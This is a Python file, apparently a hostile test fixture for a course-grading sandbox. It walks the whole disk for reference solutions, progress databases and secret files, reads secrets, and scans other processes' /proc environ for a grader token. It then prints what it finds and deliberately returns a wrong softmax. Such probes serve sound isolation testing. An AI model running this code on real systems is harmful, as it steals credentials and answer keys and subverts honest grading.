# Hostile: search the whole visible disk for what grading must never show: a course checkout's
# reference solutions (wherever a copy lies), secrets, the grader's environment, the learner's
# own progress database. Reports every find through its output and a wrong answer.
import glob
import os

import numpy as np

PARAMS = {}  # filled in by the test

found = []
for root, dirs, files in os.walk("/"):                  # find / -name '*.py' -path '*reference*'
    if root == "/proc" or root.startswith("/proc/"):
        dirs[:] = []
        continue
    for name in files:
        path = os.path.join(root, name)
        if name.endswith(".py") and "reference" in path:
            found.append("REFERENCE " + path)
        if name in ("progress.db", "secret.txt") or name.startswith("planted-"):
            found.append("FILE " + path)
CLONES = ["/root", "/home/*", "/work", "/work/*", "/srv", "/opt", "/tmp", "/var/tmp", "/usr/src", "/usr/local/src",
          os.path.expanduser("~"), "/dev/shm"]
for base in CLONES:
    for pattern in ("**/exercises/**/reference.py", "**/.mlfun/progress.db", "**/mistakes/*.py"):
        found += ["GLOB " + p for p in glob.glob(os.path.join(base, pattern), recursive=True)]
for path in PARAMS["secrets"]:
    try:
        with open(path, "rb") as f:
            found.append("READ " + path + " " + f.read(200).decode("latin-1"))
    except OSError:
        pass
for entry in os.listdir("/proc"):
    if entry.isdigit():
        try:
            with open(f"/proc/{entry}/environ", "rb") as f:
                text = f.read()
        except OSError:
            continue
        if PARAMS["token"].encode() in text or entry == str(PARAMS["parent"]) and text:
            found.append(f"ENVIRON of pid {entry}")
if PARAMS["token"] in repr(dict(os.environ)):
    found.append("ENVIRON of this process")
if found:
    print("FOUND\n" + "\n".join(found))


def softmax(x, axis=-1):
    x = np.asarray(x, dtype=float)
    e = np.exp(x - x.max(axis=axis, keepdims=True))
    out = e / e.sum(axis=axis, keepdims=True)
    return out * 2.0 if found else out
